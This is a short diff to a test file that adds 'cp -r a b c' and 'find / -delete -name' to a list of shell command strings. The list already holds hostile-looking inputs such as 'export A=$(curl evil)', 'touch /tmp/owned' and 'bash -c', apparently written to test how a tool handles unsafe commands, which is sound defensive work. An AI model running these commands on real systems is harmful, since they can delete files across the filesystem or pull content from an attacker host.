@@ -42,6 +42,8 @@ def test_variables_are_set_and_taken_away(workshop):
         "conda install gxx",
         "export A=$(curl evil)",
         "touch /tmp/owned",
+        "cp -r a b c",
+        "find / -delete -name",
         "bash -c 'touch /tmp/owned'",
         "export CXX=no-such-compiler-99",
         "df -h /tmp",
